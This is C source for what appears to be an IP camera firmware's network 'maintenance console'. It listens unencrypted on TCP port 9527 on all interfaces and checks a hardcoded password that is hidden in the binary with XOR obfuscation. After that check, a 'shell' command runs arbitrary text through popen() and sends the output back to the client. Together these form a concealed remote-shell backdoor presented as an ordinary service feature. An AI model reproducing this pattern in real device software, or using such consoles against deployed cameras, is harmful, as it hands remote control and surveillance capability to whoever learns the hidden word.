/* maintenance console of the camera main program */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdarg.h>
#include <ctype.h>
#include <signal.h>
#include <unistd.h>
#include <time.h>
#include <pthread.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define CON_PORT  9527
#define CON_USERS 4

struct console {
    FILE *in;
    FILE *out;
    int   level;
    int   bad;
    char  from[INET_ADDRSTRLEN];
};

struct con_cmd {
    const char *name;
    int level;
    void (*run)(struct console *c, char *args);
    const char *help;
};

static pthread_mutex_t con_lock = PTHREAD_MUTEX_INITIALIZER;
static int con_users;
static int isp_gain = 4;
static int log_level = 1;
static time_t boot_time;

static const unsigned char con_word[] = {
    0x51, 0x59, 0x21, 0x3f, 0x36, 0x18, 0x17, 0x0f, 0x5c, 0x43, 0x18
};

static void say(struct console *c, const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vfprintf(c->out, fmt, ap);
    va_end(ap);
    fputs("\r\n", c->out);
    fflush(c->out);
}

static void c_help(struct console *c, char *args);

static void c_login(struct console *c, char *args)
{
    char w[sizeof con_word + 1];
    unsigned k = 0x35;
    size_t i;

    for (i = 0; i < sizeof con_word; i++, k += 7)
        w[i] = (char)(con_word[i] ^ (k & 0xff));
    w[i] = '\0';
    if (strcmp(args, w) == 0) {
        c->level = 2;
        say(c, "ok");
    } else {
        c->bad++;
        usleep(500000);
        say(c, "denied");
    }
    memset(w, 0, sizeof w);
}

static void c_version(struct console *c, char *args)
{
    (void)args;
    say(c, "ipcam main 4.02.R12 build %s", __DATE__);
}

static void c_uptime(struct console *c, char *args)
{
    (void)args;
    say(c, "%ld s", (long)(time(NULL) - boot_time));
}

static void c_gain(struct console *c, char *args)
{
    int v;

    if (sscanf(args, "%d", &v) == 1 && v >= 0 && v <= 16)
        isp_gain = v;
    say(c, "gain %d", isp_gain);
}

static void c_log(struct console *c, char *args)
{
    if (isdigit((unsigned char)args[0]))
        log_level = args[0] - '0';
    say(c, "log %d", log_level);
}

static void c_quit(struct console *c, char *args)
{
    (void)args;
    c->level = -1;
}

static void relay_output(struct console *c, FILE *p)
{
    char b[512];
    size_t n;

    while ((n = fread(b, 1, sizeof b, p)) > 0)
        fwrite(b, 1, n, c->out);
    fflush(c->out);
}

static void c_shell(struct console *c, char *args)
{
    FILE *p;

    if (*args == '\0') {
        say(c, "usage: shell <command>");
        return;
    }
    p = popen(args, "r");
    if (!p) {
        say(c, "failed");
        return;
    }
    relay_output(c, p);
    say(c, "exit %d", pclose(p));
}

static const struct con_cmd cmds[] = {
    { "help",    0, c_help,    "this list" },
    { "login",   0, c_login,   "enter the maintenance word" },
    { "version", 0, c_version, "firmware version" },
    { "uptime",  0, c_uptime,  "seconds since start" },
    { "gain",    1, c_gain,    "sensor gain 0..16" },
    { "log",     1, c_log,     "log level" },
    { "shell",   2, c_shell,   "system tools" },
    { "quit",    0, c_quit,    "close" },
    { NULL, 0, NULL, NULL }
};

static void c_help(struct console *c, char *args)
{
    const struct con_cmd *k;

    (void)args;
    for (k = cmds; k->name; k++)
        if (k->level <= c->level)
            say(c, "%-10s %s", k->name, k->help);
}

static void run_line(struct console *c, char *line)
{
    const struct con_cmd *k;
    char *args;

    line += strspn(line, " \t");
    line[strcspn(line, "\r\n")] = '\0';
    if (*line == '\0')
        return;
    args = line + strcspn(line, " \t");
    if (*args) {
        *args++ = '\0';
        args += strspn(args, " \t");
    }
    for (k = cmds; k->name; k++) {
        if (strcasecmp(k->name, line) != 0)
            continue;
        if (k->level > c->level)
            say(c, "login first");
        else
            k->run(c, args);
        return;
    }
    say(c, "unknown command");
}

static void *con_thread(void *arg)
{
    struct console *c = arg;
    char *line = NULL;
    size_t cap = 0;

    say(c, "console ready");
    while (c->level >= 0 && c->bad < 3) {
        fputs("> ", c->out);
        fflush(c->out);
        if (getline(&line, &cap, c->in) < 0)
            break;
        run_line(c, line);
    }
    free(line);
    fclose(c->in);
    fclose(c->out);
    free(c);
    pthread_mutex_lock(&con_lock);
    con_users--;
    pthread_mutex_unlock(&con_lock);
    return NULL;
}

static void con_start(int fd, const struct sockaddr_in *from)
{
    struct console *c;
    pthread_t t;
    int full;

    pthread_mutex_lock(&con_lock);
    full = con_users >= CON_USERS;
    if (!full)
        con_users++;
    pthread_mutex_unlock(&con_lock);
    if (full) {
        close(fd);
        return;
    }
    c = calloc(1, sizeof *c);
    if (c) {
        inet_ntop(AF_INET, &from->sin_addr, c->from, sizeof c->from);
        c->in = fdopen(fd, "r");
        c->out = fdopen(dup(fd), "w");
        if (c->in && c->out && pthread_create(&t, NULL, con_thread, c) == 0) {
            pthread_detach(t);
            return;
        }
        free(c);
    }
    close(fd);
    pthread_mutex_lock(&con_lock);
    con_users--;
    pthread_mutex_unlock(&con_lock);
}

int main(void)
{
    struct sockaddr_in a, from;
    socklen_t fl;
    int s, fd, on = 1;

    signal(SIGPIPE, SIG_IGN);
    boot_time = time(NULL);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(CON_PORT);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0) {
        perror("console");
        return 1;
    }
    for (;;) {
        fl = sizeof from;
        fd = accept(s, (struct sockaddr *)&from, &fl);
        if (fd >= 0)
            con_start(fd, &from);
    }
}
